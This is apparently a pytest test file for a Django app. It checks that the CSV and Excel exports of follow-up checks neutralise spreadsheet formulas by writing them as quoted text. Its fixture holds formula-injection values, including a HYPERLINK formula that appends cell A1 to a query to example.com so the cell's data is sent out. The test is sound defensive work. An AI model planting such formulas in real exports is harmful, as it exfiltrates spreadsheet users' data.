"""The checks export carries no live formula, in CSV or in Excel (issue 13 §3)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from followups.models import CheckKind
from tests.factories import SupplierFactory
from tests.followups.factories import CheckFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'


@pytest.fixture
def hostile_check():
    supplier = SupplierFactory(name=HYPERLINK)
    return CheckFactory(kind=CheckKind.IVO, supplier=supplier, reference="=1+1", summary="@SUM(1)")


def test_csv_export_writes_formulas_as_text(strategist_client, hostile_check):
    response = strategist_client.get(reverse("followups:check_export"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'=1+1" in cells
    assert "'" + HYPERLINK in cells
    assert "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_excel_export_writes_formulas_as_text(strategist_client, hostile_check):
    response = strategist_client.get(reverse("followups:check_export"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    values = {c.value for c in cells}
    assert "'=1+1" in values
    assert "'" + HYPERLINK in values
